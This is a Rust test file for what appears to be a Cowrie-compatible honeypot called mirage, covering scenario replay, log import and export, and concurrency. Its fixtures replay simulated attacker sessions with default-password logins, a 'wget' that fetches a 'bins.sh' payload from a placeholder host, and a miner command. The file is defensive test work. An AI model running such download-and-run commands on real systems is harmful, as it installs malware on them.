//! Replay, import and export end to end: determinism, virtual versus real time, broken files,
//! Cowrie logs imported and replayed, a live node's session exported, and 2,000 sessions at
//! once.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use mirage::config::AuthConfig;
use mirage::events::Event;
use mirage::outputs::jsonlog::cowrie_json;
use mirage::sim::replay::{Replay, ReplayOptions, Replayer, StepResult};
use mirage::sim::runner::{RunOptions, run_blocking};
use mirage::sim::scenario::Scenario;
use serde_json::Value;

use crate::common::{NodeProcess, PASSWORD, SshShell};

/// Runs the binary with no inherited `MIRAGE_*` settings; returns (status, stdout, stderr).
fn mirage(args: &[&str], env: &[(&str, &Path)]) -> (i32, String, String) {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_mirage"));
    for (key, _) in std::env::vars() {
        if key.starts_with("MIRAGE_") {
            cmd.env_remove(key);
        }
    }
    let output = cmd
        .args(args)
        .envs(env.iter().copied())
        .env("RUST_LOG", "warn")
        .output()
        .expect("run mirage");
    (
        output.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&output.stdout).into_owned(),
        String::from_utf8_lossy(&output.stderr).into_owned(),
    )
}

/// Replays one scenario on a fresh actor system with the default auth policy; returns the
/// replay and the wall time it took.
fn replay(scenario: &Scenario, real_time: bool) -> (Replay, Duration) {
    let system = actix::System::new();
    system.block_on(async {
        let options = ReplayOptions {
            real_time,
            ..ReplayOptions::default()
        };
        let replayer = Replayer::new(&AuthConfig::default(), options).expect("auth policy");
        let started = Instant::now();
        let replay = replayer.replay(scenario).await;
        (replay, started.elapsed())
    })
}

/// What a replay showed, without the random event uuids.
fn observed(replay: &Replay) -> (Vec<StepResult>, Vec<Event>, bool) {
    let events = replay
        .events
        .iter()
        .cloned()
        .map(|mut e| {
            e.id = uuid::Uuid::nil();
            e
        })
        .collect();
    (replay.steps.clone(), events, replay.session_open)
}

fn parse(text: &str) -> Scenario {
    Scenario::parse(Path::new("test.yaml"), text).expect("valid scenario")
}

const BUSY: &str = r#"version: 1
name: busy
seed: 7
attacker:
  credentials: [{username: root, password: "123456"}, {username: root, password: toor1}]
steps:
  - input: uname -a; hostname
  - input: date; uptime
    delay: 61.5
  - input: cat /proc/cpuinfo | grep -c processor; free -m
    delay: 3
  - input: ps aux | tail -3; cat /dev/urandom | head -c 0; ls -la /tmp
    delay: 0.25
  - input: cd /tmp; wget http://203.0.113.5/bins.sh; ls -la --time-style=full-iso
    delay: 7
  - input: zzminer --threads 4
"#;

#[test]
fn the_same_scenario_replays_identically() {
    let scenario = parse(BUSY);
    let (first, _) = replay(&scenario, false);
    let (second, _) = replay(&scenario, false);
    assert!(first.logged_in);
    assert_eq!(first.steps.len(), 6);
    assert!(
        first.events.len() > 10,
        "events of every kind: {:?}",
        first.events
    );
    let (a, b) = (observed(&first), observed(&second));
    for (x, y) in a.0.iter().zip(&b.0) {
        assert_eq!(x, y, "step outputs differ");
    }
    for (x, y) in a.1.iter().zip(&b.1) {
        assert_eq!(x, y, "events differ (timestamps included)");
    }
    assert_eq!(a, b);
    // Virtual time: the last event is stamped with the recording's time, not the machine's.
    let last = first.events.last().expect("events");
    assert_eq!(
        (last.timestamp - scenario.start).num_milliseconds(),
        71_750,
        "{last:?}"
    );
}

#[test]
fn virtual_time_replay_equals_real_time_replay() {
    let scenario = parse(
        "version: 1\nname: paced\nattacker:\n  credentials: [{username: root, password: x1}]\n\
         steps:\n  - input: date +%s.%N\n    delay: 0.5\n  - input: uptime\n    delay: 0.5\n\
         \x20 - input: date; ls /tmp\n    delay: 0.5\n",
    );
    let (fast, fast_wall) = replay(&scenario, false);
    let (paced, paced_wall) = replay(&scenario, true);
    assert_eq!(observed(&fast), observed(&paced));
    assert_eq!(fast.duration, Duration::from_millis(1500));
    assert!(paced_wall >= Duration::from_millis(1500), "{paced_wall:?}");
    assert!(
        fast_wall * 4 < paced_wall,
        "virtual {fast_wall:?} vs real {paced_wall:?}"
    );
}

#[test]
fn a_broken_file_is_named_and_the_good_one_still_replays() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("good.yaml"),
        "version: 1\nname: good\nattacker:\n  credentials: [{username: root, password: x1}]\n\
         steps:\n  - input: echo fine\n    expect: {output: \"fine\\n\"}\n",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("broken.yaml"),
        "version: 1\nname: broken\nsteps:\n  - input: id\n  - delay: 1\n",
    )
    .unwrap();
    let (status, stdout, stderr) = mirage(&["replay", dir.path().to_str().unwrap()], &[]);
    assert_ne!(status, 0, "{stdout}{stderr}");
    assert!(
        stdout.contains("broken.yaml:5: steps[1]: a step needs `input`, `upload` or `http`"),
        "{stdout}"
    );
    assert!(stdout.contains("PASS  good"), "{stdout}");
    assert!(
        stdout.contains("2 scenarios: 1 passed, 1 failed"),
        "{stdout}"
    );
    assert!(stderr.contains("1 of 2 scenarios failed"), "{stderr}");
}

/// A Cowrie 2.x session (zone-less timestamps, `duration` in seconds, a `b'…'` client
/// version, a PTY) and a 3.x exec session (`duration_ms`, a direct-tcpip request whose
/// `src_ip` is the claimed originator), interleaved as in a real log, with one bad line.
const COWRIE_LOG: &str = r#"{"eventid":"cowrie.session.connect","src_ip":"198.51.100.23","src_port":51234,"dst_ip":"10.0.0.5","dst_port":22,"session":"c0ffee000001","protocol":"ssh","message":"New connection: 198.51.100.23:51234 (10.0.0.5:22) [session: c0ffee000001]","sensor":"hp-ams-1","timestamp":"2021-03-01T12:00:00.000000"}
{"eventid":"cowrie.client.version","version":"b'SSH-2.0-libssh2_1.4.3'","message":"Remote SSH version: b'SSH-2.0-libssh2_1.4.3'","sensor":"hp-ams-1","timestamp":"2021-03-01T12:00:00.120000","src_ip":"198.51.100.23","session":"c0ffee000001"}
{"eventid":"cowrie.session.connect","src_ip":"192.0.2.77","src_port":40001,"dst_ip":"10.0.0.5","dst_port":22,"session":"0a0b0c0d0e0f","protocol":"ssh","message":"New connection: 192.0.2.77:40001 (10.0.0.5:22) [session: 0a0b0c0d0e0f]","sensor":"hp-fra-2","timestamp":"2024-06-01T08:00:00.000000Z"}
{"eventid":"cowrie.client.kex","hassh":"92674389fa1e47a27ddd8d9b63ecd42b","hasshAlgorithms":"x;y;z;w","kexAlgs":["curve25519-sha256"],"keyAlgs":["ssh-ed25519"],"encCS":["aes128-ctr"],"macCS":["hmac-sha2-256"],"compCS":["none"],"langCS":[""],"message":"SSH client hassh fingerprint: 92674389fa1e47a27ddd8d9b63ecd42b","sensor":"hp-ams-1","timestamp":"2021-03-01T12:00:00.130000","src_ip":"198.51.100.23","session":"c0ffee000001"}
{"eventid":"cowrie.login.failed","username":"root","password":"123456","message":"login attempt [root/123456] failed","sensor":"hp-ams-1","timestamp":"2021-03-01T12:00:01.000000","src_ip":"198.51.100.23","session":"c0ffee000001"}
{"eventid":"cowrie.client.version","version":"SSH-2.0-Go","message":"Remote SSH version: SSH-2.0-Go","sensor":"hp-fra-2","timestamp":"2024-06-01T08:00:00.200000Z","src_ip":"192.0.2.77","session":"0a0b0c0d0e0f"}
{"eventid":"cowrie.login.success","username":"root","password":"admin1","message":"login attempt [root/admin1] succeeded","sensor":"hp-ams-1","timestamp":"2021-03-01T12:00:02.000000","src_ip":"198.51.100.23","session":"c0ffee000001"}
{"eventid":"cowrie.client.size","width":120,"height":40,"message":"Terminal Size: 120 40","sensor":"hp-ams-1","timestamp":"2021-03-01T12:00:02.100000","src_ip":"198.51.100.23","session":"c0ffee000001"}
{"eventid":"cowrie.login.failed","username":"admin","password":"admin","message":"login attempt [admin/admin] failed","sensor":"hp-fra-2","timestamp":"2024-06-01T08:00:00.500000Z","src_ip":"192.0.2.77","session":"0a0b0c0d0e0f"}
this line is not JSON
{"eventid":"cowrie.login.success","username":"admin","password":"P@ssw0rd","message":"login attempt [admin/P@ssw0rd] succeeded","sensor":"hp-fra-2","timestamp":"2024-06-01T08:00:00.900000Z","src_ip":"192.0.2.77","session":"0a0b0c0d0e0f"}
{"eventid":"cowrie.direct-tcpip.request","dst_ip":"ifconfig.me","dst_port":443,"src_ip":"127.0.0.1","src_port":0,"message":"direct-tcp connection request to ifconfig.me:443 from 127.0.0.1:0","sensor":"hp-fra-2","timestamp":"2024-06-01T08:00:01.000000Z","session":"0a0b0c0d0e0f"}
{"eventid":"cowrie.command.input","input":"uname -a","message":"CMD: uname -a","sensor":"hp-ams-1","timestamp":"2021-03-01T12:00:04.500000","src_ip":"198.51.100.23","session":"c0ffee000001"}
{"eventid":"cowrie.command.input","input":"uname -s -m","message":"CMD: uname -s -m","sensor":"hp-fra-2","timestamp":"2024-06-01T08:00:01.250000Z","src_ip":"192.0.2.77","session":"0a0b0c0d0e0f"}
{"eventid":"cowrie.command.input","input":"cd /tmp; wget http://203.0.113.5/bins.sh","message":"CMD: cd /tmp; wget http://203.0.113.5/bins.sh","sensor":"hp-ams-1","timestamp":"2021-03-01T12:00:09.000000","src_ip":"198.51.100.23","session":"c0ffee000001"}
{"eventid":"cowrie.session.file_download","url":"http://203.0.113.5/bins.sh","outfile":"var/lib/cowrie/downloads/2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae","shasum":"2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae","destfile":"bins.sh","message":"Downloaded URL (http://203.0.113.5/bins.sh) with SHA-256 2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae to var/lib/cowrie/downloads/2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae","sensor":"hp-ams-1","timestamp":"2021-03-01T12:00:10.000000","src_ip":"198.51.100.23","session":"c0ffee000001"}
{"eventid":"cowrie.command.input","input":"cat /proc/cpuinfo | grep name | wc -l","message":"CMD: cat /proc/cpuinfo | grep name | wc -l","sensor":"hp-fra-2","timestamp":"2024-06-01T08:00:02.000000Z","src_ip":"192.0.2.77","session":"0a0b0c0d0e0f"}
{"eventid":"cowrie.session.closed","duration_ms":2500,"message":"Connection lost after 2.5 seconds","sensor":"hp-fra-2","timestamp":"2024-06-01T08:00:02.500000Z","src_ip":"192.0.2.77","session":"0a0b0c0d0e0f"}
{"eventid":"cowrie.command.input","input":"zzminer --threads 4","message":"CMD: zzminer --threads 4","sensor":"hp-ams-1","timestamp":"2021-03-01T12:00:12.000000","src_ip":"198.51.100.23","session":"c0ffee000001"}
{"eventid":"cowrie.command.failed","input":"zzminer --threads 4","message":"Command not found: zzminer --threads 4","sensor":"hp-ams-1","timestamp":"2021-03-01T12:00:12.000000","src_ip":"198.51.100.23","session":"c0ffee000001"}
{"eventid":"cowrie.command.input","input":"exit","message":"CMD: exit","sensor":"hp-ams-1","timestamp":"2021-03-01T12:00:13.000000","src_ip":"198.51.100.23","session":"c0ffee000001"}
{"eventid":"cowrie.log.closed","ttylog":"var/lib/cowrie/tty/3f9b","size":1832,"shasum":"3f9b","duplicate":false,"duration":13.1,"message":"Closing TTY Log: var/lib/cowrie/tty/3f9b after 13 seconds","sensor":"hp-ams-1","timestamp":"2021-03-01T12:00:13.100000","src_ip":"198.51.100.23","session":"c0ffee000001"}
{"eventid":"cowrie.session.closed","duration":13.2,"message":"Connection lost after 13 seconds","sensor":"hp-ams-1","timestamp":"2021-03-01T12:00:13.200000","src_ip":"198.51.100.23","session":"c0ffee000001"}
"#;

/// The event kinds a replay emits (no key exchange, terminal size, recordings or forwards:
/// the replay transport has none).
const REPLAYED: &[&str] = &[
    "cowrie.session.connect",
    "cowrie.client.version",
    "cowrie.login.failed",
    "cowrie.login.success",
    "cowrie.command.input",
    "cowrie.command.failed",
    "cowrie.session.file_download",
    "cowrie.session.closed",
];

fn replayed_kinds(events: impl IntoIterator<Item = Value>) -> Vec<Value> {
    events
        .into_iter()
        .filter(|e| REPLAYED.contains(&e["eventid"].as_str().unwrap_or("")))
        .collect()
}

#[test]
fn a_cowrie_log_imports_and_replays_to_the_same_events() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("cowrie.json");
    std::fs::write(&log, COWRIE_LOG).unwrap();
    let out = dir.path().join("imported");
    let (status, stdout, stderr) = mirage(
        &[
            "import",
            "cowrie",
            log.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
        ],
        &[],
    );
    assert_eq!(status, 0, "{stdout}{stderr}");
    assert!(
        stderr.contains("cowrie.json:10: not a JSON object"),
        "the bad line is named: {stderr}"
    );
    let written: Vec<&str> = stdout.lines().collect();
    assert_eq!(written.len(), 2, "{stdout}");
    assert!(written[0].ends_with("cowrie-c0ffee000001.yaml"), "{stdout}");
    assert!(written[1].ends_with("cowrie-0a0b0c0d0e0f.yaml"), "{stdout}");

    // The imported files pass their own expectations on the binary.
    let (status, report, _) = mirage(&["replay", out.to_str().unwrap()], &[]);
    assert_eq!(status, 0, "{report}");

    let input: Vec<Value> = COWRIE_LOG
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    for (file, session) in [(written[0], "c0ffee000001"), (written[1], "0a0b0c0d0e0f")] {
        let scenario = Scenario::load(Path::new(file)).unwrap();
        let (replayed, _) = replay(&scenario, false);
        let got = replayed_kinds(replayed.events.iter().map(cowrie_json));
        let want = replayed_kinds(input.iter().filter(|e| e["session"] == session).cloned());
        let ids = |events: &[Value]| -> Vec<String> {
            events.iter().map(|e| e["eventid"].to_string()).collect()
        };
        assert_eq!(ids(&got), ids(&want), "{session}");
        for (g, w) in got.iter().zip(&want) {
            let missing: Vec<&String> = w
                .as_object()
                .unwrap()
                .keys()
                .filter(|k| g.get(k.as_str()).is_none())
                .collect();
            assert!(
                missing.is_empty(),
                "{session}: {} lacks {missing:?}",
                w["eventid"]
            );
            if w["eventid"] == "cowrie.command.input" {
                assert_eq!(g["input"], w["input"]);
                // Virtual time replays the recording's pace to the microsecond.
                assert_eq!(
                    g["timestamp"].as_str().unwrap().trim_end_matches('Z'),
                    w["timestamp"].as_str().unwrap().trim_end_matches('Z')
                );
            }
            if w["eventid"].as_str().unwrap().starts_with("cowrie.login.") {
                assert_eq!(
                    (&g["username"], &g["password"]),
                    (&w["username"], &w["password"])
                );
            }
        }
        assert_eq!(got[0]["src_ip"], want[0]["src_ip"], "attacker address kept");
        assert_eq!(got[0]["src_port"], want[0]["src_port"]);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_live_session_exports_as_cowrie_json_scenario_and_asciicast() {
    let mut node = NodeProcess::start(&[]);
    let mut shell = SshShell::open(node.ssh).await;
    assert_eq!(shell.run("echo export-marker").await, "export-marker\r\n");
    shell.run("uname -n").await;
    drop(shell);
    let events = node.wait_for_log("a closed recording", |e| {
        e["eventid"] == "cowrie.log.closed"
    });
    node.wait_for_log("a closed session", |e| {
        e["eventid"] == "cowrie.session.closed"
    });
    node.terminate();
    let session = events
        .iter()
        .find(|e| e["eventid"] == "cowrie.login.success")
        .and_then(|e| e["session"].as_str())
        .expect("a login")
        .to_owned();
    let logged: Vec<Value> = node
        .log_events()
        .into_iter()
        .filter(|e| e["session"] == session.as_str())
        .collect();
    let data_dir: PathBuf = node.data_dir.clone();
    let env = [("MIRAGE_DATA_DIR", data_dir.as_path())];
    let export = |format: &str| {
        let (status, stdout, stderr) = mirage(&["export", &session, "--format", format], &env);
        assert_eq!(status, 0, "{format}: {stderr}");
        stdout
    };

    // Cowrie JSON: the events the node logged, each as the log wrote it.
    let exported: Vec<Value> = export("cowrie-json")
        .lines()
        .map(|l| serde_json::from_str(l).expect("a JSON line"))
        .collect();
    let uuids = |events: &[Value]| {
        let mut ids: Vec<String> = events.iter().map(|e| e["uuid"].to_string()).collect();
        ids.sort();
        ids
    };
    assert_eq!(uuids(&exported), uuids(&logged));
    let inputs: Vec<&str> = exported
        .iter()
        .filter(|e| e["eventid"] == "cowrie.command.input")
        .map(|e| e["input"].as_str().unwrap())
        .collect();
    assert_eq!(inputs, ["echo export-marker", "uname -n"]);
    for e in &exported {
        let same = logged.iter().find(|l| l["uuid"] == e["uuid"]).unwrap();
        assert_eq!(e, same, "exported as the log wrote it");
    }

    // Scenario: the same session, replayable.
    let yaml = export("scenario");
    let scenario = Scenario::parse(Path::new("exported.yaml"), &yaml).expect(&yaml);
    let typed: Vec<&str> = scenario
        .steps
        .iter()
        .map(|s| s.value.input.as_deref().unwrap())
        .collect();
    assert_eq!(typed, ["echo export-marker", "uname -n"]);
    assert_eq!(scenario.attacker.ip.to_string(), "127.0.0.1");
    assert!(scenario.attacker.pty);
    let last = scenario.attacker.credentials.last().unwrap();
    assert_eq!(
        (last.username.as_str(), last.password.as_str()),
        ("root", PASSWORD)
    );
    assert_eq!(scenario.expect.logged_in, Some(true));
    let file = data_dir.join("exported.yaml");
    std::fs::write(&file, &yaml).unwrap();
    let (status, report, _) = mirage(&["replay", file.to_str().unwrap()], &[]);
    assert_eq!(status, 0, "{report}");

    // Asciicast: the recording file, header first, the typed command's output inside.
    let cast = export("asciicast");
    let header: Value = serde_json::from_str(cast.lines().next().unwrap()).unwrap();
    assert_eq!(header["version"], 2);
    assert!(cast.contains("export-marker"), "{cast}");
    let on_disk = std::fs::read_to_string(data_dir.join(format!("tty/{session}.cast"))).unwrap();
    assert_eq!(cast, on_disk);

    let (status, _, stderr) = mirage(&["export", "ffffffffffff"], &env);
    assert_ne!(status, 0);
    assert!(
        stderr.contains("no session ffffffffffff in the store"),
        "{stderr}"
    );
}

#[test]
fn two_thousand_sessions_replay_at_once_in_isolation() {
    let dir = tempfile::tempdir().unwrap();
    let files: Vec<PathBuf> = (0..2000)
        .map(|i| {
            let file = dir.path().join(format!("iso-{i:04}.yaml"));
            let text = format!(
                "version: 1\nname: iso-{i}\nattacker:\n  port: {port}\n  credentials: [{{username: root, password: x{i}}}]\n\
                 steps:\n  - input: echo mine-{i} > /tmp/iso-mark-{i}.txt\n    expect: {{status: 0}}\n\
                 \x20 - input: cat /tmp/iso-mark-*.txt\n    delay: 1\n    expect: {{output: \"mine-{i}\\n\"}}\n",
                port = 10_000 + i
            );
            std::fs::write(&file, text).unwrap();
            file
        })
        .collect();
    let options = RunOptions {
        jobs: 512,
        ..RunOptions::default()
    };
    let (reports, _wall) =
        run_blocking(&files, &AuthConfig::default(), &options, |_| {}).expect("runs");
    assert_eq!(reports.len(), 2000);
    let failed: Vec<String> = reports
        .iter()
        .filter(|r| !r.passed)
        .take(3)
        .map(|r| r.table())
        .collect();
    assert!(failed.is_empty(), "{}", failed.join("\n"));
    let mut sessions: Vec<&str> = reports.iter().map(|r| r.session.as_str()).collect();
    sessions.sort();
    sessions.dedup();
    assert_eq!(sessions.len(), 2000, "one session each");
}

#[test]
fn an_http_scenario_replays_identically_on_the_virtual_clock() {
    let file = Path::new(env!("CARGO_MANIFEST_DIR")).join("scenarios/http/recon-then-ssh.yaml");
    let scenario = Scenario::load(&file).expect("the scenario loads");
    let (first, _) = replay(&scenario, false);
    let (second, _) = replay(&scenario, false);
    assert_eq!(observed(&first), observed(&second));
    assert!(first.logged_in);
    // The three requests answered as a client reads them off the wire; the two lines typed.
    let statuses: Vec<(usize, i32)> = first
        .steps
        .iter()
        .filter(|s| s.input.is_none())
        .map(|s| (s.step, s.status))
        .collect();
    assert_eq!(statuses, [(0, 200), (1, 200), (4, 404)]);
    let server = first.steps[0]
        .headers
        .iter()
        .find(|(n, _)| n == "Server")
        .map(|(_, v)| v.as_str());
    assert_eq!(server, Some("nginx/1.18.0 (Ubuntu)"));
    // The requests went through a session actor of protocol HTTP, stamped on the virtual clock
    // (the .env request half a second after the start), from the attacker's address.
    let logged: Vec<Value> = first.events.iter().map(cowrie_json).collect();
    let env = logged
        .iter()
        .find(|e| e["eventid"] == "mirage.http.request" && e["path"] == "/.env")
        .expect("the .env request is recorded");
    assert_eq!(env["status"], 200);
    assert_eq!(env["lure"], "nginx");
    assert_eq!(env["protocol"], "http");
    assert_eq!(env["src_ip"], "203.0.113.150");
    assert_eq!(env["timestamp"], "2026-01-05T10:00:00.500000Z");
    let sessions: std::collections::BTreeSet<&str> = logged
        .iter()
        .filter_map(|e| e["session"].as_str())
        .collect();
    assert_eq!(
        sessions.len(),
        2,
        "one SSH and one HTTP session: {sessions:?}"
    );
    // The HTTP recon came before the SSH login.
    let position = |id: &str| logged.iter().position(|e| e["eventid"] == id);
    assert!(position("mirage.http.request") < position("cowrie.login.failed"));
}
